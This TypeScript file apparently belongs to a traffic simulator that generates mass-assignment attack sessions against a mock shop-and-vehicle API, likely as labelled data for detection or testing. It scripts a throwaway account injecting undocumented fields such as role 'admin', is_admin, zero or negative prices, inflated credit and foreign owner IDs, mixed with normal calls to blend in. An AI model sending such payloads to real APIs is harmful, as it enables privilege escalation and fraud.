// Mass assignment: an account that behaves like a customer but adds fields the API never documents
// to its request bodies (`role`, `is_admin`, an order `status`, a `price`, a credit balance).
import { PATHS, order } from '../../spec';
import type { Auth } from '../types';
import { json } from '../visit-builder';
import { attackerClient, attackerVisit, pace, sourceIps, throwawayAccount, type AttackPlan, type AttackScope, script } from './common';
import { attackSize } from './params';

export function planMassAssignment(scope: AttackScope): AttackPlan {
  const { ctx, rng, params } = scope;
  const count = attackSize(params);
  const ip = sourceIps(scope, params.sources)[0] ?? '0.0.0.0';
  const client = attackerClient(scope, rng.pick(['fetch', 'node-http'] as const));
  const b = script(scope, scope.start);
  const { email, token } = throwawayAccount(scope, b);
  const auth: Auth = { kind: 'bearer', token: token.token };
  const own = ctx.orders.reserve(Math.round(b.t), email);
  b.call('POST', PATHS.orders, { auth, body: json({ product_id: rng.int(1, ctx.world.products.length), quantity: 1 }), creates: own });
  const fields: string[] = [];
  const times = pace(scope, count);
  for (const at of times) {
    b.t = Math.max(b.t, at);
    // a normal call or two in between, as the app would make
    if (rng.chance(0.6)) b.call('GET', PATHS.dashboard, { auth });
    const trick = rng.int(0, 6);
    if (trick === 0) {
      fields.push('status');
      b.call('PUT', () => order(own.value ?? 1), { auth, body: json({ product_id: 1, quantity: 1, status: rng.pick(['returned', 'delivered', 'refunded']) }) });
    } else if (trick === 1) {
      fields.push('price');
      const id = ctx.orders.reserve(Math.round(b.t), email);
      b.call('POST', PATHS.orders, { auth, creates: id, body: json({ product_id: rng.int(1, ctx.world.products.length), quantity: rng.int(1, 50), price: rng.pick([0, 0.01, -10]) }) });
    } else if (trick === 2) {
      const field = rng.pick(['role', 'is_admin', 'isAdmin']);
      fields.push(field);
      b.call('POST', PATHS.changeEmail, { auth, body: json({ old_email: email, new_email: email, [field]: field === 'role' ? 'admin' : true }) });
    } else if (trick === 3) {
      fields.push('available_credit');
      b.call('POST', PATHS.applyCoupon, { auth, body: json({ coupon_code: 'SPRING10', amount: 10, available_credit: rng.pick([10000, 99999, 5000]) }) });
    } else if (trick === 4) {
      fields.push('owner_id');
      b.call('POST', PATHS.addVehicle, { auth, body: json({ vin: rng.pick(ctx.world.vehicles).vin, pincode: String(rng.int(1000, 9999)), owner_id: rng.int(1, 400) }) });
    } else if (trick === 5) {
      fields.push('authorid');
      b.call('POST', PATHS.posts, { auth, body: json({ title: 'Hello', content: 'First post', authorid: rng.int(1, 400), is_pinned: true }) });
    } else {
      fields.push('role');
      b.call('POST', PATHS.signup, { body: json({ name: 'ops', email: `ops${rng.int(1, 999)}@${email.split('@')[1] ?? 'mail.com'}`, number: `${rng.int(200, 989)}${rng.int(1000000, 9999999)}`, password: `Ops!${rng.chars(10)}`, role: 'admin' }) });
    }
  }
  return { visits: [attackerVisit(scope, b, ip, client)], usernames: [email], extra: { fields: [...new Set(fields)].sort().join(' ') } };
}
